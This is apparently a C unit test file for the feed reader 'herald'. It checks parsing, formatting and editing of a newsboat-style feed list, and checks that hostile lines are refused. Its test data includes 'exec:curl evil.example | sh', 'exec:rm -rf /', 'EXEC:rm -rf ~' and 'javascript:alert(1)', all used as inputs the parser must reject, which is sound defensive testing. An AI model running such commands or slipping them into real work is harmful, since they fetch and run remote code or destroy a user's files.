/* Unit tests for the urls file: newsboat's format line by line, hostile
 * lines refused with file:line, and edits that keep the rest. */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "urls.h"
#include "util.h"

#include "../tap.h"

/* One line in, what comes out: the URL, its tags joined by '|', its
 * title, or the error message. */
static const struct {
	const char	*line;
	const char	*url;
	const char	*tags;
	const char	*title;
	const char	*error;
	const char	*name;
} lines[] = {
	{ "https://a.example/feed.xml", "https://a.example/feed.xml", "",
	  NULL, NULL, "a bare URL" },
	{ "http://a.example/rss news tech", "http://a.example/rss",
	  "news|tech", NULL, NULL, "tags" },
	{ "https://a.example/x \"long reads\" misc", "https://a.example/x",
	  "long reads|misc", NULL, NULL, "a quoted tag" },
	{ "https://a.example/x news \"~My own name\"", "https://a.example/x",
	  "news", "My own name", NULL, "a custom title" },
	{ "  https://a.example/x\tnews  ", "https://a.example/x", "news",
	  NULL, NULL, "blanks and tabs" },
	{ "https://a.example/x news # a comment", "https://a.example/x",
	  "news", NULL, NULL, "a comment after the tags" },
	{ "https://a.example/x#frag", "https://a.example/x#frag", "", NULL,
	  NULL, "a # inside the URL" },
	{ "https://a.example/x ! news", "https://a.example/x", "news", NULL,
	  NULL, "newsboat's hidden flag is ignored" },
	{ "https://a.example/x \"say \\\"hi\\\"\"", "https://a.example/x",
	  "say \"hi\"", NULL, NULL, "escaped quotes in a tag" },
	{ "file:///home/me/feed.xml", "file:///home/me/feed.xml", "", NULL,
	  NULL, "a file URL" },
	{ "/home/me/feed.xml", "/home/me/feed.xml", "", NULL, NULL,
	  "a local path" },
	{ "HTTPS://A.example/", "HTTPS://A.example/", "", NULL, NULL,
	  "scheme in capitals" },
	{ "https://a.example/x\r", "https://a.example/x", "", NULL, NULL,
	  "a CRLF line" },
	{ "exec:curl evil.example | sh", NULL, NULL, NULL,
	  "urls:1: exec: runs a command; herald never runs commands from "
	  "its feed list", "exec: refused" },
	{ "filter:~/bin/f.sh:https://a.example/", NULL, NULL, NULL,
	  "urls:1: filter: runs a command on the download; herald never runs "
	  "commands from its feed list", "filter: refused" },
	{ "\"query:Unread:unread = \\\"yes\\\"\"", NULL, NULL, NULL,
	  "urls:1: query: is a newsboat query feed; herald never runs "
	  "commands from its feed list", "query: refused" },
	{ "EXEC:rm -rf ~", NULL, NULL, NULL,
	  "urls:1: exec: runs a command; herald never runs commands from "
	  "its feed list", "EXEC: in capitals refused" },
	{ "gopher://a.example/1", NULL, NULL, NULL,
	  "urls:1: the scheme gopher: is not one herald fetches (http, "
	  "https, file)", "an unknown scheme refused" },
	{ "javascript:alert(1)", NULL, NULL, NULL,
	  "urls:1: the scheme javascript: is not one herald fetches (http, "
	  "https, file)", "javascript: refused" },
	{ "https://a.example/x \"unclosed tag", NULL, NULL, NULL,
	  "urls:1: a quote is not closed; the line is skipped",
	  "an unclosed quote" },
	{ "https://a.example/\x1b[2J", NULL, NULL, NULL,
	  "urls:1: a URL with a control character", "an escape in the URL" },
	{ "# only a comment", NULL, NULL, NULL, NULL, "a comment line" },
	{ "", NULL, NULL, NULL, NULL, "an empty line" },
};

static char *
join_tags(const struct urls_entry *e)
{
	struct buf b;
	size_t i;

	buf_init(&b, 0);
	for (i = 0; i < e->ntags; i++) {
		if (i > 0)
			buf_addc(&b, '|');
		buf_adds(&b, e->tags[i]);
	}
	return buf_steal(&b);
}

static void
test_lines(void)
{
	struct urls *u;
	char *tags;
	size_t i;

	for (i = 0; i < ARRAYSIZE(lines); i++) {
		u = urls_parse(lines[i].line, strlen(lines[i].line), "urls");
		if (lines[i].url != NULL) {
			is_int(u->n, 1, "%s: one feed", lines[i].name);
			if (u->n == 1) {
				is_str(u->v[0].url, lines[i].url, "%s: url",
				    lines[i].name);
				tags = join_tags(&u->v[0]);
				is_str(tags, lines[i].tags, "%s: tags",
				    lines[i].name);
				free(tags);
				is_str(u->v[0].title, lines[i].title,
				    "%s: title", lines[i].name);
			}
		} else
			is_int(u->n, 0, "%s: no feed", lines[i].name);
		is_str(u->nerrors > 0 ? u->errors[0] : NULL, lines[i].error,
		    "%s: message", lines[i].name);
		urls_free(u);
	}
}

static void
test_file(void)
{
	static const char text[] =
	    "# my feeds\n"
	    "https://a.example/feed news\n"
	    "exec:rm -rf /\n"
	    "https://b.example/feed \"~B's title\"\n"
	    "https://a.example/feed again\n"
	    "https://c.example/feed\n";
	struct urls *u;

	u = urls_parse(text, sizeof text - 1, "/home/me/urls");
	is_int(u->n, 3, "file: the good lines load");
	is_int(u->nerrors, 2, "file: two problems");
	is_str(u->errors[0], "/home/me/urls:3: exec: runs a command; herald "
	    "never runs commands from its feed list", "file: exec with line");
	is_str(u->errors[1], "/home/me/urls:5: https://a.example/feed is "
	    "already on line 2; skipped", "file: duplicate with line");
	is_int(u->v[2].line, 6, "file: line numbers kept");
	ok(urls_find(u, "https://b.example/feed") == &u->v[1], "file: find");
	ok(urls_find(u, "https://d.example/feed") == NULL,
	    "file: find nothing");
	urls_free(u);
}

static void
test_format(void)
{
	static const struct {
		const char	*url;
		const char	*tags[3];
		size_t		 ntags;
		const char	*title;
		const char	*want;
	} cases[] = {
		{ "https://a.example/", { NULL }, 0, NULL,
		  "https://a.example/" },
		{ "https://a.example/", { "news", "long reads" }, 2, NULL,
		  "https://a.example/ news \"long reads\"" },
		{ "https://a.example/", { "q\"t" }, 1, "Say \"hi\"",
		  "https://a.example/ q\"t \"~Say \\\"hi\\\"\"" },
		{ "/home/my feeds/x.xml", { "#hash" }, 1, NULL,
		  "\"/home/my feeds/x.xml\" \"#hash\"" },
	};
	struct urls *u;
	char *line;
	size_t i;

	for (i = 0; i < ARRAYSIZE(cases); i++) {
		line = urls_format_line(cases[i].url,
		    (char *const *)cases[i].tags, cases[i].ntags,
		    cases[i].title);
		is_str(line, cases[i].want, "format %zu: the line", i);
		u = urls_parse(line, strlen(line), "urls");
		ok(u->n == 1 && strcmp(u->v[0].url, cases[i].url) == 0 &&
		    u->v[0].ntags == cases[i].ntags &&
		    (cases[i].ntags == 0 ||
		    strcmp(u->v[0].tags[0], cases[i].tags[0]) == 0) &&
		    (cases[i].title == NULL ? u->v[0].title == NULL :
		    strcmp(u->v[0].title, cases[i].title) == 0),
		    "format %zu: reads back the same", i);
		urls_free(u);
		free(line);
	}
}

static void
test_edits(void)
{
	char dir[] = "/tmp/herald-test-urls.XXXXXX", *path, *data, *cause;
	char *tags[] = { "news", "long reads" };
	char *bad[] = { "~sneaky" };
	size_t len;

	if (mkdtemp(dir) == NULL)
		return;
	xasprintf(&path, "%s/sub/urls", dir);
	cause = NULL;
	ok(urls_add(path, "https://a.example/feed", tags, 2, NULL, &cause) ==
	    0, "add: creates the file and its folder");
	ok(urls_add(path, "https://b.example/feed", NULL, 0, "B", &cause) ==
	    0, "add: a second");
	ok(urls_add(path, "https://a.example/feed", NULL, 0, NULL, &cause) ==
	    -1, "add: a duplicate is refused");
	free(cause);
	cause = NULL;
	ok(urls_add(path, "exec:ls", NULL, 0, NULL, &cause) == -1,
	    "add: exec: refused");
	free(cause);
	cause = NULL;
	ok(urls_add(path, "https://c.example/", bad, 1, NULL, &cause) == -1,
	    "add: a tag that would read as a title is refused");
	free(cause);
	cause = NULL;
	read_file(path, 0, &data, &len, NULL);
	is_str(data, "https://a.example/feed news \"long reads\"\n"
	    "https://b.example/feed \"~B\"\n", "add: the file");
	free(data);

	/* Hand-written lines and comments survive edits. */
	data = "# mine\nhttps://a.example/feed news\n"
	    "\n\"https://b.example/feed\" x # keep\nhttps://c.example/feed";
	write_file_atomic(path, data, strlen(data), NULL);
	ok(urls_replace_url(path, "https://b.example/feed",
	    "https://b.example/rss", &cause) == 0, "replace: done");
	ok(urls_remove(path, "https://a.example/feed", &cause) == 0,
	    "remove: done");
	ok(urls_remove(path, "https://z.example/feed", &cause) == -1,
	    "remove: a URL not listed is an error");
	free(cause);
	cause = NULL;
	read_file(path, 0, &data, &len, NULL);
	is_str(data, "# mine\n\nhttps://b.example/rss x # keep\n"
	    "https://c.example/feed", "edits: the rest of the file as it was");
	free(data);
	ok(urls_add(path, "https://d.example/", NULL, 0, NULL, &cause) == 0,
	    "add: after a last line without newline");
	read_file(path, 0, &data, &len, NULL);
	ok(strstr(data, "https://c.example/feed\nhttps://d.example/\n") !=
	    NULL, "add: a newline is put before the new line");
	free(data);
	free(path);
	xasprintf(&path, "rm -rf '%s'", dir);
	if (system(path) != 0)
		diag("cannot remove %s", dir);
	free(path);
}

int
main(void)
{
	test_lines();
	test_file();
	test_format();
	test_edits();
	return done_testing();
}
